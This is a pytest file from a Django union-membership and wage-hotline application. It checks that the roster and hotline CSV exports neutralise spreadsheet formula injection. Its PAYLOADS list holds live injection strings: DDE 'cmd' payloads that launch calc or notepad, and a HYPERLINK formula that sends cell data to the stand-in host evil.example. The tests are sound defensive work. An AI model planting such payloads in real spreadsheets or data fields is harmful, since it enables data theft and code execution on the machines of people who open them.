"""Issue 10, finding 8 — CSV formula injection. Every CSV writer (``core.spreadsheets.
rows_to_csv``, under the roster's and the hotline's exports) writes a text cell starting with
``=``, ``+``, ``-``, ``@``, tab or CR with a leading ``'``; real numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from gonghui.core.spreadsheets import csv_cell, rows_to_csv
from gonghui.hotline.models import Ticket
from gonghui.members.models import Member
from gonghui.members.services import member_create

from .test_hotline_pages import new_ticket
from .test_members_pages import ID_WANG

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]


def read_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_rows_to_csv_neutralises_formulas_and_keeps_numbers() -> None:
    rows = [[p, -12.5, Decimal("-3.20"), 7, "-", "王强", "", None] for p in PAYLOADS]
    body = "".join(rows_to_csv(["=header", "b"], rows)).encode()
    out = read_csv(body)
    assert out[0] == ["'=header", "b"]
    for payload, row in zip(PAYLOADS, out[1:], strict=True):
        assert row == ["'" + payload, "-12.5", "-3.20", "7", "'-", "王强", "", ""]
    assert csv_cell(True) == "True"  # a boolean is not a number


@pytest.mark.parametrize("payload", PAYLOADS)
def test_roster_csv_export_neutralises_every_payload(
    payload: str, people: Any, tree: Any, login: Any
) -> None:
    member = member_create(
        actor=people.clerk_a,
        org=tree.union_a,
        data={"name": "王强", "id_number": ID_WANG, "joined_on": "2015-03-01"},
    )
    # the value as a hostile source could have left it (an import, an API client)
    Member.objects.filter(pk=member.pk).update(employer_name=payload)
    response = login(people.cadre_a).get("/members/export.csv")
    assert response.status_code == 200
    rows = read_csv(b"".join(response.streaming_content))
    at = rows[0].index("工作单位")
    assert rows[1][at] == "'" + payload
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hotline_csv_export_neutralises_every_payload(
    payload: str, people: Any, login: Any
) -> None:
    ticket = new_ticket(people.operator, employer="某公司", workers=3)
    Ticket.objects.filter(pk=ticket.pk).update(employer=payload, wages_recovered=Decimal("-12.5"))
    response = login(people.operator).get("/hotline/export.csv?tab=all")
    assert response.status_code == 200
    rows = read_csv(b"".join(response.streaming_content))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["工作单位"] == "'" + payload
    assert row["追回欠薪（元）"] == "-12.50"  # a number stays a number
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in rows[1]) and not any(
        cell.startswith("-") and cell != "-12.50" for cell in rows[1]
    )
